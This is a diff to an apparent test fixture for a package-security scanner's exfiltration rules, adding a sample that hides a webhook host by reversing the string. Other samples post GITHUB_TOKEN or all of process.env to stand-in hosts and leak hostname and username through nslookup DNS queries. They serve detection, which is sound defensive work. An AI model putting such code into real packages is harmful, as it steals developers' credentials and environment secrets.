@@ -18,6 +18,7 @@ ruleTable("exfiltration", {
       atLeast: "critical",
     },
     { name: "GITHUB_TOKEN posted at install", code: "const axios = require('axios'); axios.post('https://collector.example/x', { t: process.env.GITHUB_TOKEN });", installTime: true, atLeast: "critical" },
+    { name: "a webhook host spelled backwards", code: "const h = 'etis.koohbew'.split('').reverse().join(''); require('https').request({ hostname: h, method: 'POST' }).end(JSON.stringify(process.env));", atLeast: "critical" },
     { name: "discord webhook alone", code: "const HOOK = 'https://discord.com/api/webhooks/123/abc';", atLeast: "medium" },
     { name: "nslookup of a name built from host facts", code: "const { exec } = require('child_process'); const os = require('os'); exec('nslookup ' + Buffer.from(os.hostname() + os.userInfo().username).toString('hex') + '.x.oastify.com');", atLeast: "critical" },
     { name: "whole env packed into a payload at require time", code: "import axios from 'axios'; axios.post('https://stats.example.net/c', { h: 1, e: process.env });", atLeast: "critical" },
